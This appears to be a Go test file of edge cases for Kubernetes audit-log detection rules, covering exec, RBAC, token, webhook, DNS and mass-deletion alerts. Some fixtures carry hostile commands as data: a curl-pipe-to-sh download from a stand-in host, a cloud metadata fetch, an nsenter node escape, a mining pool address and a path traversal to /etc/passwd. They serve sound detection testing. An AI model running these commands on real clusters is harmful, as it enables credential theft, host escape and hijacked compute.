package builtin_test

import (
	"crypto/ed25519"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"testing"
	"time"
)

const (
	webPod   = "system:serviceaccount:shop:web"
	kubectl  = "kubectl/v1.35.4 (linux/amd64) kubernetes/$Format"
	robot    = "reconciler/v1.2.3"
	metadata = "Metadata"
)

// request asks for a certificate, as kubectl sends it.
func request(t testing.TB, name, organization string) string {
	t.Helper()
	_, key, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(nil, &x509.CertificateRequest{Subject: pkix.Name{CommonName: name, Organization: []string{organization}}}, key)
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}))
}

// edgeCases are look-alikes, one step beside what rules are about, and thresholds.
func edgeCases(t testing.TB) []madeCase {
	t.Helper()
	exec := first(t, of("exec_into_pod"), developer, "get", "pods/exec")
	forward := first(t, of("portforward_db"), operator, "get", "pods/portforward")
	pod := made(t, first(t, of("privileged_pod"), developer, "create", "pods"), set{"/requestObject/spec/containers/0/securityContext", nil}, set{"/responseObject", nil})
	deployment := made(t, first(t, of("miner_image"), developer, "create", "deployments"), set{"/requestObject/spec/template/spec/containers/0/image", "registry.local/shop/web:1.0"}, set{"/responseObject", nil})
	daemonset := made(t, first(t, benign, operator, "create", "daemonsets"), set{"/responseObject", nil})
	daemonsetPatch := first(t, of("daemonset_image_patch"), operator, "patch", "daemonsets")
	newTag := first(t, benign, operator, "patch", "daemonsets")
	cronjob := first(t, of("cronjob_persistence"), developer, "create", "cronjobs")
	binding := made(t, first(t, of("bind_cluster_admin_sa"), operator, "create", "clusterrolebindings"), set{"/responseObject", nil})
	role := made(t, first(t, of("wildcard_clusterrole"), operator, "create", "clusterroles"), set{"/responseObject", nil})
	service := made(t, first(t, of("dashboard_nodeport"), operator, "create", "services"), set{"/responseObject", nil}, set{"/objectRef/name", "web"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/selector", object(`{"app": "web"}`)})
	ingress := made(t, first(t, benign, deployer, "create", "ingresses"), set{"/responseObject", nil}, set{"/requestObject/spec/tls", object(`[{"hosts": ["a"]}]`)})
	webhook := made(t, first(t, of("mutating_webhook_external"), operator, "create", "mutatingwebhookconfigurations"), set{"/responseObject", nil})
	inside := made(t, webhook, set{"/requestObject/webhooks/0/clientConfig", object(`{"service": {"name": "w", "namespace": "operators"}}`)})
	narrow := made(t, inside, set{"/requestObject/webhooks/0/rules", object(`[{"operations": ["CREATE"], "apiGroups": ["x.example.net"], "apiVersions": ["v1"], "resources": ["things"]}]`)})
	dns := first(t, of("coredns_rewrite"), operator, "patch", "configmaps")
	aws := first(t, of("aws_auth_update"), operator, "patch", "configmaps")
	deleted := first(t, of("mass_delete"), operator, "delete", "configmaps")
	namespace := first(t, benign, operator, "delete", "namespaces")
	newNamespace := first(t, benign, operator, "create", "namespaces")
	secrets := first(t, of("list_all_secrets"), operator, "list", "secrets")
	newSecret := first(t, benign, "alice@example.test", "create", "secrets")
	anonymous := first(t, of("anonymous_denied"), "system:anonymous", "list", "namespaces")
	served := first(t, of("bind_anonymous_and_use"), "system:anonymous", "list", "namespaces")
	unauthorized := first(t, benign, "", "list", "namespaces")
	token := first(t, of("token_request_other_sa"), operator, "create", "serviceaccounts/token")
	csr := made(t, first(t, of("csr_create_approve"), operator, "create", "certificatesigningrequests"), set{"/responseObject", nil})
	approval := first(t, of("csr_create_approve"), operator, "update", "certificatesigningrequests/approval")
	review := first(t, of("can_i_scan"), developer, "create", "selfsubjectrulesreviews")
	stolen := first(t, of("sa_token_outside"), webPod, "list", "pods")
	pods := made(t, secrets, set{"/objectRef/resource", "pods"})

	command := func(words string) [][]byte {
		return one(made(t, exec, set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=sh&command=-c&command=" + words}))
	}
	as := func(line []byte, user, agent string, more ...set) []byte {
		return made(t, line, append([]set{{"/user/username", user}, {"/userAgent", agent}, {"/user/groups", nil}, {"/sourceIPs", []any{"10.77.0.12"}}}, more...)...)
	}
	named := func(what string) func(int) []set {
		return func(i int) []set {
			return []set{{"/objectRef/resource", what}, {"/objectRef/name", fmt.Sprint("n-", i)}}
		}
	}
	kinds := func(what ...string) func(int) []set {
		return func(i int) []set {
			return []set{{"/objectRef/resource", what[i%len(what)]}, {"/objectRef/name", fmt.Sprint("n-", i)}}
		}
	}
	paths := func(i int) []set { return []set{{"/requestURI", fmt.Sprint("/apis/x", i)}} }
	namespaces := func(i int) []set { return []set{{"/objectRef/namespace", fmt.Sprint("team-", i)}} }
	refusals := func(i int) []set { return append(forbidden("forbidden"), namespaces(i)...) }
	questions := func(i int) []set { return []set{{"/requestObject/spec/namespace", fmt.Sprint("team-", i)}} }
	gets := func(i int) []set {
		return []set{{"/verb", "get"}, {"/objectRef/namespace", "shop"}, {"/objectRef/name", fmt.Sprint("s-", i)}}
	}
	const s = time.Second

	return []madeCase{
		{"exec without credentials", one(as(exec, "system:anonymous", "curl/8", set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=ls"})), []string{"audit-anonymous-request-allowed high", "audit-pod-exec high"}},
		{"exec for the cloud's credentials", command("wget+-qO-+http%3A%2F%2F169.254.169.254%2Flatest%2F"), []string{"audit-pod-exec low", "audit-pod-exec-suspicious-command high"}},
		{"exec that downloads and runs", command("curl+-s+http%3A%2F%2Fx.example.net%2Fa+%7C+sh"), []string{"audit-pod-exec low", "audit-pod-exec-suspicious-command high"}},
		{"exec of a tool", command("amicontained"), []string{"audit-pod-exec low", "audit-pod-exec-suspicious-command high"}},
		{"exec to the node", command("nsenter+-t+1+-m+sh"), []string{"audit-pod-exec low", "audit-pod-exec-suspicious-command high"}},
		{"port-forward without credentials", one(as(forward, "system:anonymous", "curl/8")), []string{"audit-anonymous-request-allowed high", "audit-port-forward high"}},

		{"host port of an add-on", one(made(t, deployment, set{"/objectRef/namespace", "metallb-system"}, set{"/requestObject/spec/template/spec/containers/0/ports", object(`[{"containerPort": 80, "hostPort": 8080}]`)})), nil},
		{"ports of the host's network", one(made(t, daemonset, set{"/requestObject/spec/template/spec/containers/0/ports", object(`[{"containerPort": 9100, "hostPort": 9100}]`)})), []string{"audit-host-namespace-pod low", "audit-sensitive-hostpath low"}},
		{"host IPC", one(made(t, deployment, set{"/requestObject/spec/template/spec/hostIPC", true})), []string{"audit-host-namespace-pod medium"}},
		{"capabilities of a network agent", one(made(t, daemonset, set{"/objectRef/namespace", "calico-system"}, set{"/requestObject/spec/template/spec/hostPID", nil}, set{"/requestObject/spec/template/spec/hostNetwork", nil}, set{"/requestObject/spec/template/spec/volumes", nil}, set{"/requestObject/spec/template/spec/containers/0/securityContext/capabilities/add", []any{"SYS_ADMIN"}})), []string{"audit-dangerous-capabilities low"}},
		{"capabilities of a deployment", one(made(t, deployment, set{"/requestObject/spec/template/spec/containers/0/securityContext/capabilities/add", []any{"CAP_SYS_PTRACE"}})), []string{"audit-dangerous-capabilities medium"}},
		{"unmasked proc", one(made(t, deployment, set{"/requestObject/spec/template/spec/containers/0/securityContext/procMount", "Unmasked"})), []string{"audit-dangerous-capabilities medium"}},
		{"pool in the environment", one(made(t, deployment, set{"/requestObject/spec/template/spec/containers/0/env", object(`[{"name": "P", "value": "gulf.moneroocean.stream:10128"}]`)})), []string{"audit-miner-image-pod high"}},
		{"cronjob of GitOps", one(as(cronjob, "system:serviceaccount:flux:kustomize-controller", "kustomize-controller/v1", set{"/responseObject", nil}, set{"/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command", nil})), nil},
		{"node debugger of the general profile", one(made(t, pod, set{"/objectRef/name", "node-debugger-node-1-x7k2p"})), []string{"audit-debug-node-pod high"}},
		{"controller's name elsewhere", one(made(t, deployment, set{"/requestObject/spec/template/spec/serviceAccountName", "job-controller"})), nil},
		{"account of a chart", one(as(pod, operator, "Helm/3.14.4", set{"/requestObject/spec/serviceAccountName", "web"})), nil},
		{"default account", one(made(t, pod, set{"/requestObject/spec/serviceAccountName", "default"})), nil},
		{"account of a workload changed", one(made(t, deployment, set{"/verb", "patch"}, set{"/requestObject", object(`{"spec": {"template": {"spec": {"serviceAccountName": "deployer"}}}}`)})), []string{"audit-pod-chosen-account low"}},
		{"image of a deployment replaced", one(made(t, daemonsetPatch, set{"/objectRef/resource", "deployments"})), []string{"audit-workload-image-replaced medium"}},
		{"image of another registry by the same name", one(made(t, daemonsetPatch, set{"/responseObject/spec/template/spec/containers/0/image", "registry.example.net/prometheus/node-exporter:v1"})), []string{"audit-workload-image-replaced high"}},
		{"new tag of a daemonset by a program", one(as(newTag, "system:serviceaccount:flux:image", robot)), nil},
		{"new tag of a daemonset as a whole", one(made(t, daemonset, set{"/verb", "update"}, set{"/requestObject/spec/template/spec/containers/0/image", "quay.io/prometheus/node-exporter:v1.8.2"})), []string{"audit-host-namespace-pod low", "audit-sensitive-hostpath low"}},
		{"containers applied", one(made(t, daemonsetPatch, set{"/responseObject/spec/template/spec/containers/0/image", "quay.io/prometheus/node-exporter:v1.8.1"}, set{"/requestObject", object(`{"metadata": {"annotations": {"a": "b"}}, "spec": {"template": {"spec": {"containers": [{"name": "other", "image": "quay.io/prometheus/node-exporter:v1.8.1"}]}}}}`)})), []string{"audit-workload-image-replaced low"}},

		{"binding of kubeadm", one(made(t, binding, set{"/objectRef/name", "kubeadm:cluster-admins"}, set{"/requestObject/subjects", object(`[{"kind": "Group", "name": "kubeadm:cluster-admins"}]`)})), nil},
		{"binding that is called as kubeadm's", one(made(t, binding, set{"/objectRef/name", "kubeadm:cluster-admins"})), []string{"audit-cluster-admin-binding high"}},
		{"binding to kubeadm's administrators", one(made(t, binding, set{"/requestObject/subjects", object(`[{"kind": "Group", "name": "kubeadm:cluster-admins"}]`)})), []string{"audit-cluster-admin-binding high"}},
		{"admin of all namespaces", one(made(t, binding, set{"/requestObject/roleRef/name", "admin"})), []string{"audit-cluster-admin-binding medium"}},
		{"admin of a namespace", one(made(t, binding, set{"/objectRef/resource", "rolebindings"}, set{"/objectRef/namespace", "team-a"}, set{"/requestObject/roleRef/name", "admin"})), nil},
		{"cluster-info for everybody elsewhere", one(made(t, binding, set{"/objectRef/resource", "rolebindings"}, set{"/objectRef/namespace", "team-a"}, set{"/requestObject/roleRef/name", "kubeadm:bootstrap-signer-clusterinfo"}, set{"/requestObject/subjects", object(`[{"kind": "User", "name": "system:anonymous"}]`)})), []string{"audit-anonymous-binding critical"}},
		{"other things for everybody in kube-public", one(made(t, binding, set{"/objectRef/resource", "rolebindings"}, set{"/objectRef/namespace", "kube-public"}, set{"/requestObject/roleRef/name", "view"}, set{"/requestObject/subjects", object(`[{"kind": "Group", "name": "system:unauthenticated"}]`)})), []string{"audit-anonymous-binding critical"}},
		{"view widened", one(made(t, role, set{"/verb", "update"}, set{"/objectRef/name", "view"}, set{"/requestObject/rules", nil})), []string{"audit-system-role-tampered high"}},
		{"role called view in a namespace", one(made(t, role, set{"/verb", "update"}, set{"/objectRef/resource", "roles"}, set{"/objectRef/namespace", "shop"}, set{"/objectRef/name", "view"}, set{"/requestObject/rules", nil})), nil},
		{"binding of cluster-admin deleted", one(made(t, binding, set{"/verb", "delete"}, set{"/objectRef/name", "cluster-admin"}, set{"/requestObject", nil})), []string{"audit-system-role-tampered high"}},
		{"escalate for an operator", one(as(role, deployer, "Helm/3.14.4", set{"/requestObject/rules", object(`[{"verbs": ["escalate", "bind"], "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles"]}]`)})), []string{"audit-dangerous-role medium"}},
		{"everything within a namespace", one(made(t, role, set{"/objectRef/resource", "roles"}, set{"/objectRef/namespace", "shop"})), []string{"audit-dangerous-role medium"}},

		{"cluster-info without credentials", one(made(t, served, set{"/requestURI", "/api/v1/namespaces/kube-public/configmaps/cluster-info"}, set{"/verb", "get"}, set{"/objectRef", object(`{"resource": "configmaps", "namespace": "kube-public", "name": "cluster-info"}`)})), nil},
		{"four paths without credentials", times(t, 4, s, anonymous, paths), nil},
		{"five paths without credentials", times(t, 5, s, anonymous, paths), []string{"audit-anonymous-scan medium, refused"}},
		{"six paths with a bad token", times(t, 6, s, unauthorized, paths), nil},
		{"eleven bad tokens", times(t, 11, s, unauthorized, nil), nil},
		{"twelve bad tokens", times(t, 12, s, unauthorized, nil), []string{"audit-token-brute-force medium, refused"}},
		{"five refusals", times(t, 5, s, pods, refusals), nil},
		{"six refusals", times(t, 6, s, pods, refusals), []string{"audit-denied-burst medium, refused"}},
		{"refusals of watches", times(t, 9, s, made(t, pods, set{"/verb", "watch"}), refusals), nil},
		{"refusals of a dashboard", times(t, 9, s, made(t, pods, set{"/userAgent", "k9s/v0.50"}), refusals), nil},
		{"refusals of a program", times(t, 9, s, as(pods, "system:serviceaccount:shop:metrics", robot), refusals), []string{"audit-denied-burst low, refused"}},
		{"nobody from inside and outside", times(t, 2, s, anonymous, func(i int) []set {
			return []set{{"/sourceIPs", []any{[]string{"10.77.0.9", "203.0.113.66"}[i]}}}
		}), nil},
		{"account from inside and outside", times(t, 2, s, as(pods, deployer, robot), func(i int) []set {
			return []set{{"/sourceIPs", []any{[]string{"10.77.0.12", "203.0.113.66"}[i]}}}
		}), []string{"audit-inside-and-outside medium"}},
		{"person from inside and from nowhere", times(t, 2, s, pods, func(i int) []set {
			return []set{{"/sourceIPs", [][]any{{"10.77.0.12"}, {}}[i]}}
		}), nil},
		{"token of a pod from its address and from nowhere", times(t, 2, s, as(stolen, webPod, robot), func(i int) []set {
			return []set{{"/sourceIPs", [][]any{{"10.244.0.7"}, {}}[i]}}
		}), nil},
		{"person from nowhere after a week", times(t, 10, 24*time.Hour, pods, func(i int) []set {
			return []set{{"/sourceIPs", [][]any{{"198.51.100.7"}, {}}[i/9]}}
		}), nil},
		{"person from inside, then outside later", times(t, 2, 11*time.Minute, pods, func(i int) []set {
			return []set{{"/sourceIPs", []any{[]string{"10.77.0.12", "203.0.113.66"}[i]}}}
		}), nil},
		{"account from new public addresses", times(t, 10, 24*time.Hour, as(pods, deployer, robot), func(i int) []set {
			return []set{{"/sourceIPs", []any{[]string{"198.51.100.7", "203.0.113.66"}[i/9]}}}
		}), nil},
		{"person from new private addresses", times(t, 10, 24*time.Hour, pods, func(i int) []set {
			return []set{{"/sourceIPs", []any{[]string{"10.77.0.12", "10.77.0.13"}[i/9]}}}
		}), nil},
		{"another account of kube-system by hand", one(as(pods, "system:serviceaccount:kube-system:metrics-server", kubectl)), nil},
		{"another account of the same name by hand", one(as(pods, "system:serviceaccount:shop:job-controller", kubectl)), nil},
		{"the controller manager's certificate by hand", one(as(pods, "system:kube-controller-manager", kubectl)), []string{"audit-machine-identity-by-hand high"}},
		{"a kubelet's certificate by hand", one(as(pods, "system:node:node-1", kubectl)), []string{"audit-machine-identity-by-hand medium"}},
		{"token of a pod, by its program outside", one(made(t, stolen, set{"/userAgent", "web/1.0"})), []string{"audit-sa-token-used-outside critical"}},
		{"token issued in one's own namespace", one(as(token, "system:serviceaccount:kube-system:csi", robot)), []string{"audit-sa-token-request low"}},
		{"token issued by a vault", one(as(token, "system:serviceaccount:vault:vault", robot, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/expirationSeconds", 600})), []string{"audit-sa-token-request low"}},
		{"lasting token in kube-system", one(made(t, newSecret, set{"/objectRef/namespace", "kube-system"}, set{"/requestObject/type", "kubernetes.io/service-account-token"}, set{"/responseObject", nil})), []string{"audit-long-lived-token high"}},
		{"certificate of a person", one(made(t, csr, set{"/requestObject/spec/request", request(t, "alice", "developers")})), []string{"audit-csr-client-cert medium"}},
		{"certificate of a system user", one(made(t, csr, set{"/requestObject/spec/request", request(t, "system:kube-controller-manager", "x")})), []string{"audit-csr-client-cert high"}},
		{"certificate that cannot be read", one(made(t, csr, set{"/requestObject/spec/request", "bm9uc2Vuc2U="})), []string{"audit-csr-client-cert medium"}},
		{"certificate of another signer", one(made(t, csr, set{"/requestObject/spec/signerName", "example.net/signer"})), nil},
		{"client certificate for a bootstrap token", one(as(csr, "system:bootstrap:abcdef", "curl/8")), []string{"audit-csr-client-cert high"}},
		{"serving certificate approved", one(made(t, approval, set{"/responseObject/spec/username", "system:node:node-1"}, set{"/responseObject/spec/signerName", "kubernetes.io/kubelet-serving"})), []string{"audit-csr-approved low"}},
		{"path that climbs", one(made(t, anonymous, set{"/requestURI", "/api/v1/namespaces/x/../../../etc/passwd"})), []string{"audit-pentest-useragent medium, refused"}},
		{"four questions", times(t, 4, s, review, questions), nil},
		{"five questions", times(t, 5, s, review, questions), []string{"audit-permission-self-review medium"}},
		{"questions of a dashboard", times(t, 9, s, made(t, review, set{"/userAgent", "Lens/6.0"}), questions), nil},
		{"questions of an operator", times(t, 9, s, as(review, "system:serviceaccount:velero:velero", robot), questions), nil},

		{"secrets of two namespaces", times(t, 2, s, secrets, namespaces), nil},
		{"secrets of three namespaces", times(t, 3, s, secrets, namespaces), []string{"audit-secrets-sweep medium"}},
		{"secrets of namespaces by a deployment", times(t, 5, s, as(secrets, deployer, "Helm/3.14.4"), namespaces), nil},
		{"nine secrets", times(t, 9, s, secrets, gets), nil},
		{"ten secrets", times(t, 10, s, secrets, gets), []string{"audit-secrets-burst medium"}},
		{"secrets by a vault", times(t, 20, s, as(secrets, "system:serviceaccount:vault:vault", robot), gets), nil},
		{"secrets of all by nobody", one(as(secrets, "system:anonymous", "curl/8")), []string{"audit-anonymous-request-allowed critical", "audit-secrets-enumeration high"}},
		{"cluster-info", one(made(t, dns, set{"/verb", "create"}, set{"/objectRef/namespace", "kube-public"}, set{"/objectRef/name", "cluster-info"}, set{"/requestObject/data", object(`{"password": "hunter2-hunter2"}`)}, set{"/responseObject", nil})), nil},
		{"what is called cluster-info", one(made(t, dns, set{"/verb", "create"}, set{"/objectRef/namespace", "shop"}, set{"/objectRef/name", "cluster-info"}, set{"/requestObject/data", object(`{"password": "hunter2-hunter2"}`)}, set{"/responseObject", nil})), []string{"audit-configmap-credentials medium"}},
		{"other things in kube-public", one(made(t, dns, set{"/verb", "create"}, set{"/objectRef/namespace", "kube-public"}, set{"/objectRef/name", "x"}, set{"/requestObject/data", object(`{"password": "hunter2-hunter2"}`)}, set{"/responseObject", nil})), []string{"audit-configmap-credentials medium"}},

		{"policy binding changed", one(made(t, webhook, set{"/verb", "patch"}, set{"/objectRef/resource", "validatingadmissionpolicybindings"}, set{"/requestObject", object(`{"spec": {"validationActions": ["Audit"]}}`)})), []string{"audit-admission-webhook-change medium"}},
		{"webhook changed, body unknown", one(made(t, webhook, set{"/verb", "patch"}, set{"/level", metadata}, set{"/requestObject", nil})), []string{"audit-admission-webhook-change medium"}},
		{"webhook of an operator deleted by it", one(as(webhook, "system:serviceaccount:kyverno:kyverno", robot, set{"/verb", "delete"}, set{"/objectRef/resource", "validatingwebhookconfigurations"}, set{"/requestObject", nil})), []string{"audit-admission-webhook-change low"}},
		{"webhook that sees all", one(made(t, inside, set{"/requestObject/webhooks/0/rules/0/resources", []any{"*"}})), []string{"audit-admission-webhook-change medium"}},
		{"webhook of its own kinds", one(narrow), []string{"audit-admission-webhook-change low"}},
		{"cluster DNS redirected as it is made", one(made(t, dns, set{"/verb", "create"}, set{"/user/username", deployer}, set{"/userAgent", "Helm/3"})), []string{"audit-coredns-modified high"}},
		{"cluster DNS changed by a program", one(as(dns, "system:serviceaccount:kube-system:addons", robot, set{"/requestObject/data/Corefile", ".:53 {\n  errors\n}\n"}, set{"/responseObject", nil})), []string{"audit-coredns-modified medium"}},
		{"a map called coredns elsewhere", one(made(t, dns, set{"/objectRef/namespace", "shop"})), nil},
		{"cluster DNS changed, body unknown", one(made(t, dns, set{"/level", metadata}, set{"/requestObject", nil}, set{"/responseObject", nil})), []string{"audit-coredns-modified high"}},
		{"mapping changed, body unknown", one(made(t, aws, set{"/level", metadata}, set{"/requestObject", nil}, set{"/responseObject", nil})), []string{"audit-cloud-auth-mapping-changed high"}},
		{"part of the API moved", one(made(t, webhook, set{"/verb", "patch"}, set{"/objectRef", object(`{"resource": "apiservices", "apiGroup": "apiregistration.k8s.io", "name": "v1.x.example.net"}`)}, set{"/requestObject", object(`{"spec": {"service": {"name": "web"}}}`)}, set{"/responseObject", object(`{"kind": "APIService", "apiVersion": "apiregistration.k8s.io/v1", "spec": {"group": "x.example.net", "service": {"name": "web"}}}`)})), []string{"audit-apiservice-changed medium"}},
		{"part of the API changed, body unknown", one(made(t, webhook, set{"/verb", "patch"}, set{"/level", metadata}, set{"/objectRef", object(`{"resource": "apiservices", "apiGroup": "apiregistration.k8s.io", "name": "v1.x.example.net"}`)}, set{"/requestObject", nil})), []string{"audit-apiservice-changed medium"}},
		{"part of the API deleted", one(made(t, webhook, set{"/verb", "delete"}, set{"/objectRef", object(`{"resource": "apiservices", "apiGroup": "apiregistration.k8s.io", "name": "v1.x.example.net"}`)}, set{"/requestObject", nil})), []string{"audit-apiservice-changed medium"}},
		{"network policy labelled", one(made(t, webhook, set{"/verb", "patch"}, set{"/objectRef", object(`{"resource": "networkpolicies", "apiGroup": "networking.k8s.io", "namespace": "shop", "name": "deny"}`)}, set{"/requestObject", object(`{"metadata": {"labels": {"a": "b"}}}`)}, set{"/responseObject", object(`{"kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1", "spec": {"ingress": [{}]}}`)})), nil},
		{"nodes mapped by the provider", one(as(aws, "eks:node-manager", robot)), nil},
		{"a map called aws-auth elsewhere", one(made(t, aws, set{"/objectRef/namespace", "shop"})), nil},
		{"mapping by an object of its own", one(made(t, aws, set{"/verb", "create"}, set{"/objectRef", object(`{"resource": "ramidentitymappings", "apiGroup": "ramauthenticator.k8s.alibabacloud", "name": "x"}`)}, set{"/requestObject", object(`{"spec": {"arn": "acs:ram::1:user/x", "username": "x"}}`)}, set{"/responseObject", nil})), []string{"audit-cloud-auth-mapping-changed high"}},
		{"configuration by a chart", one(as(dns, deployer, "Helm/3.14.4", set{"/objectRef/name", "settings"}, set{"/requestObject/data", object(`{"a": "b"}`)}, set{"/responseObject", nil})), nil},
		{"authorities by a chart", one(as(dns, deployer, "Helm/3.14.4", set{"/objectRef/name", "extension-apiserver-authentication"}, set{"/requestObject/data", object(`{"a": "b"}`)}, set{"/responseObject", nil})), []string{"audit-system-config-changed high"}},
		{"network policy that lets all in", one(made(t, webhook, set{"/verb", "update"}, set{"/objectRef", object(`{"resource": "networkpolicies", "apiGroup": "networking.k8s.io", "namespace": "shop", "name": "deny"}`)}, set{"/requestObject", object(`{"kind": "NetworkPolicy", "spec": {"ingress": [{}]}}`)})), []string{"audit-network-policy-opened medium"}},
		{"network policy that lets all out", one(made(t, webhook, set{"/verb", "update"}, set{"/objectRef", object(`{"resource": "networkpolicies", "apiGroup": "networking.k8s.io", "namespace": "shop", "name": "deny"}`)}, set{"/requestObject", object(`{"kind": "NetworkPolicy", "spec": {"egress": [{}]}}`)})), []string{"audit-network-policy-opened medium"}},
		{"network policy that lets one in", one(made(t, webhook, set{"/verb", "update"}, set{"/objectRef", object(`{"resource": "networkpolicies", "apiGroup": "networking.k8s.io", "namespace": "shop", "name": "deny"}`)}, set{"/requestObject", object(`{"kind": "NetworkPolicy", "spec": {"ingress": [{"from": [{"podSelector": {}}]}], "egress": [{"ports": [{"port": 53}]}]}}`)})), nil},
		{"network policy that lets all in, by a chart", one(as(webhook, deployer, "Helm/3.14.4", set{"/verb", "update"}, set{"/objectRef", object(`{"resource": "networkpolicies", "apiGroup": "networking.k8s.io", "namespace": "shop", "name": "deny"}`)}, set{"/requestObject", object(`{"kind": "NetworkPolicy", "spec": {"ingress": [{}]}}`)})), []string{"audit-network-policy-opened low"}},
		{"privileged namespace made", one(made(t, newNamespace, set{"/level", "Request"}, set{"/requestObject", object(`{"kind": "Namespace", "metadata": {"name": "x", "labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}`)})), []string{"audit-namespace-created-unapproved low", "audit-namespace-security-label-weakened low"}},
		{"namespace changed by a program, body unknown", one(as(newNamespace, "system:serviceaccount:flux:kustomize-controller", robot, set{"/verb", "patch"})), nil},
		{"namespace deleted by a program", one(as(namespace, "system:serviceaccount:ci:previews", robot)), nil},
		{"kube-public deleted", one(made(t, namespace, set{"/objectRef/name", "kube-public"})), []string{"audit-namespace-deleted high"}},
		{"two namespaces deleted", times(t, 2, s, namespace, named("namespaces")), []string{"audit-namespace-deleted low", "audit-namespace-deleted low"}},
		{"volumes deleted by a program", times(t, 5, s, as(deleted, "system:serviceaccount:csi:provisioner", robot), named("volumesnapshots")), nil},
		{"eleven objects deleted", times(t, 11, s/10, deleted, kinds("secrets", "services", "roles")), nil},
		{"twelve objects deleted", times(t, 12, s/10, deleted, kinds("secrets", "services", "roles")), []string{"audit-mass-deletion medium"}},
		{"a collection deleted", one(made(t, deleted, set{"/verb", "deletecollection"}, set{"/objectRef/name", nil})), []string{"audit-collection-deleted medium"}},
		{"a collection of the cluster deleted", one(made(t, deleted, set{"/verb", "deletecollection"}, set{"/objectRef/name", nil}, set{"/objectRef/namespace", nil})), []string{"audit-collection-deleted high"}},
		{"a collection deleted by a program", one(as(deleted, "system:serviceaccount:argo:argo", robot, set{"/verb", "deletecollection"}, set{"/objectRef/name", nil})), nil},
		{"leases deleted", one(made(t, deleted, set{"/verb", "deletecollection"}, set{"/objectRef/resource", "leases"})), nil},
		{"program through a proxy", one(as(pods, webPod, robot, set{"/sourceIPs", []any{"203.0.113.66", "10.77.0.5"}})), nil},
		{"nineteen objects deleted", times(t, 19, s/10, deleted, kinds("secrets", "services", "roles")), []string{"audit-mass-deletion medium"}},
		{"twenty-four objects deleted", times(t, 24, s/10, deleted, kinds("secrets", "services", "roles")), []string{"audit-mass-deletion high"}},
		{"runs cleaned up by their operator", times(t, 40, s/10, as(deleted, "system:serviceaccount:argo:argo", robot), kinds("workflows", "pods", "configmaps")), nil},
		{"services deleted by a program", times(t, 40, s/10, as(deleted, "system:serviceaccount:argo:argo", robot), kinds("deployments", "services", "statefulsets", "ingresses", "persistentvolumeclaims")), []string{"audit-mass-deletion medium"}},
		{"objects deleted with an account's token", times(t, 20, s/10, as(deleted, webPod, "curl/8.5.0"), kinds("secrets", "configmaps", "roles")), []string{"audit-mass-deletion medium"}},
		{"nine of a kind deleted", times(t, 9, s/10, deleted, named("deployments")), nil},
		{"pods deleted", times(t, 10, s/10, deleted, named("pods")), []string{"audit-mass-deletion-of-a-kind medium"}},
		{"maps deleted by a program", times(t, 15, s/10, as(deleted, "system:serviceaccount:argo:argo", robot), named("configmaps")), nil},
		{"deployments deleted by a program", times(t, 15, s/10, as(deleted, "system:serviceaccount:argo:argo", robot), named("deployments")), []string{"audit-mass-deletion medium", "audit-mass-deletion-of-a-kind medium"}},
		{"maps deleted with an account's token", times(t, 15, s/10, as(deleted, webPod, "curl/8.5.0"), named("configmaps")), []string{"audit-mass-deletion medium", "audit-mass-deletion-of-a-kind high"}},
		{"virtual node", one(as(deleted, "system:serviceaccount:kube-system:virtual-kubelet", robot, set{"/verb", "create"}, set{"/objectRef", object(`{"resource": "nodes", "name": "virtual-1"}`)})), nil},
		{"node labelled by a program", one(as(deleted, "system:serviceaccount:nfd:nfd", robot, set{"/verb", "patch"}, set{"/objectRef", object(`{"resource": "nodes", "name": "node-1"}`)})), nil},

		{"cluster service", one(made(t, service, set{"/requestObject/spec/type", "ClusterIP"}, set{"/objectRef/name", "postgres"}, set{"/requestObject/spec/selector", object(`{"app": "jupyter"}`)})), nil},
		{"database by its name", one(made(t, service, set{"/objectRef/name", "orders-postgres"})), []string{"audit-datastore-exposed medium", "audit-service-exposed low"}},
		{"dashboard of another program", one(made(t, service, set{"/objectRef/name", "grafana-dashboard"})), []string{"audit-dashboard-exposed medium", "audit-service-exposed low"}},
		{"dashboard behind a login", one(made(t, ingress, set{"/objectRef/namespace", "kubernetes-dashboard"}, set{"/requestObject/spec/rules/0/http/paths/0/backend/service/name", "oauth2-proxy"})), nil},
		{"notebooks by an ingress", one(made(t, ingress, set{"/requestObject/spec/rules/0/http/paths/0/backend/service/name", "jupyterhub"})), []string{"audit-ml-platform-exposed medium"}},
		{"notebooks by an ingress with a login", one(made(t, ingress, set{"/requestObject/metadata/annotations", object(`{"nginx.ingress.kubernetes.io/auth-url": "https://a"}`)}, set{"/requestObject/spec/rules/0/http/paths/0/backend/service/name", "jupyterhub"})), []string{"audit-ml-platform-exposed low"}},
		{"challenge of ACME", one(made(t, ingress, set{"/requestObject/spec/tls", nil}, set{"/objectRef/name", "cm-acme-http-solver-x7k2p"})), nil},
		{"ingress without hosts", one(made(t, ingress, set{"/requestObject/spec", object(`{"defaultBackend": {"service": {"name": "web"}}}`)})), nil},
		{"balancer's address by its controller", one(as(service, "system:serviceaccount:metallb-system:controller", robot, set{"/verb", "update"}, set{"/objectRef/subresource", "status"})), nil},
	}
}
